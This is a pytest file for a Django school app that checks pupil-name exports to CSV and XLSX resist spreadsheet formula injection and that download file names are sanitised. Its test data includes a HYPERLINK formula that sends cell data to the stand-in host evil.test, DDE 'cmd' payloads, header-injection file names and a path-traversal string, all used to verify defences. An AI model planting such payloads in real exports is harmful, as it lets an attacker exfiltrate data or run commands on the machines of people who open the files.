"""core.exports: one way to write CSV and XLSX. A child's name that a spreadsheet would run as a
formula (OWASP "CSV Injection") reaches the file as text, in both formats, and the cohort
download uses it."""

import csv
import datetime as dt
import io
import zipfile

import openpyxl
import pytest
from django.urls import reverse

from core.exports import Column, csv_bytes, csv_cell, safe_filename, xlsx_bytes
from core.models import AuditEvent
from tests.pupil_factories import PupilFactory

pytestmark = pytest.mark.django_db

ATTACKS = [
    '=HYPERLINK("http://evil.test/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_csv_cell_that_would_run_as_a_formula_gets_an_apostrophe(attack):
    assert csv_cell(attack) == "'" + attack


@pytest.mark.parametrize("value", ["Jane", "O'Brien", "", None, 7, dt.date(2026, 1, 5)])
def test_an_ordinary_csv_cell_is_written_as_it_is(value):
    expected = {None: "", 7: "7", dt.date(2026, 1, 5): "2026-01-05"}.get(value, value)
    assert csv_cell(value) == expected


def test_xlsx_writes_formula_like_text_as_text_never_a_formula():
    content = xlsx_bytes(["Name"], [[attack] for attack in ATTACKS])
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    # XML reads a carriage return back as a line feed.
    assert [c.value for c in cells] == [a.replace("\r", "\n") for a in ATTACKS]
    assert {c.data_type for c in cells} == {"s"}
    assert all(c.quotePrefix for c in cells)  # stays text when someone edits the cell
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        sheet_xml = package.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml


def test_xlsx_keeps_numbers_and_dates_as_such():
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(["n", "d"], [[3, dt.date(2026, 1, 5)]])))
    row = next(sheet.active.iter_rows(min_row=2))
    assert (row[0].value, row[1].value) == (3, dt.datetime(2026, 1, 5))


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("cohort-2026-11-23.csv", "cohort-2026-11-23.csv"),
        ('x"; filename="evil.exe', "x-filename-evil.exe"),
        ("Jane Smith\r\nSet-Cookie: a=b.csv", "Jane-Smith-Set-Cookie-a-b.csv"),
        ("../../etc/passwd", "etc-passwd"),
        ("", "export"),
    ],
)
def test_a_file_name_cannot_break_out_of_its_header(name, expected):
    assert safe_filename(name) == expected


def test_columns_are_written_in_order():
    content = csv_bytes(["A", "B"], [["1", "2"]]).decode()
    assert list(csv.reader(io.StringIO(content))) == [["A", "B"], ["1", "2"]]
    assert Column("A", str).key is False


# --- The cohort download ----------------------------------------------------------------------


@pytest.fixture
def hostile_pupils(school):
    PupilFactory(school=school, legal_forename='=HYPERLINK("http://evil.test","x")')
    PupilFactory(school=school, legal_forename="+1")
    PupilFactory(school=school, legal_forename="@SUM(A1)")


def test_the_cohort_csv_defuses_formulas(dt_client, hostile_pupils):
    response = dt_client.get(reverse("pupils:cohort_csv"))
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert sorted(r["Legal first name"] for r in rows) == [
        "'+1",
        '\'=HYPERLINK("http://evil.test","x")',
        "'@SUM(A1)",
    ]


def test_the_cohort_xlsx_defuses_formulas_and_is_audited(dt_client, hostile_pupils):
    response = dt_client.get(reverse("pupils:cohort_xlsx"))
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert response["Content-Disposition"].startswith('attachment; filename="cohort-')
    assert response["Content-Disposition"].endswith('.xlsx"')
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    header = [c.value for c in next(sheet.iter_rows())]
    column = header.index("Legal first name")
    names = [row[column] for row in sheet.iter_rows(min_row=2)]
    assert sorted(c.value for c in names) == [
        "+1",
        '=HYPERLINK("http://evil.test","x")',
        "@SUM(A1)",
    ]
    assert {c.data_type for c in names} == {"s"}
    event = AuditEvent.objects.get(action="cohort.exported")
    assert (event.changes["format"], event.changes["pupils"]) == ("xlsx", 3)


def test_the_cohort_xlsx_has_the_csvs_columns_and_rows(dt_client, school):
    PupilFactory(school=school, legal_forename="Amelia", date_of_birth=dt.date(2015, 4, 1))
    csv_rows = list(
        csv.reader(io.StringIO(dt_client.get(reverse("pupils:cohort_csv")).content.decode()))
    )
    sheet = openpyxl.load_workbook(
        io.BytesIO(dt_client.get(reverse("pupils:cohort_xlsx")).content)
    ).active
    xlsx_rows = [[c.value for c in row] for row in sheet.iter_rows()]
    assert xlsx_rows[0] == csv_rows[0]
    birth = csv_rows[0].index("Date of birth")
    assert csv_rows[1][birth] == "2015-04-01"
    assert xlsx_rows[1][birth] == dt.datetime(2015, 4, 1)
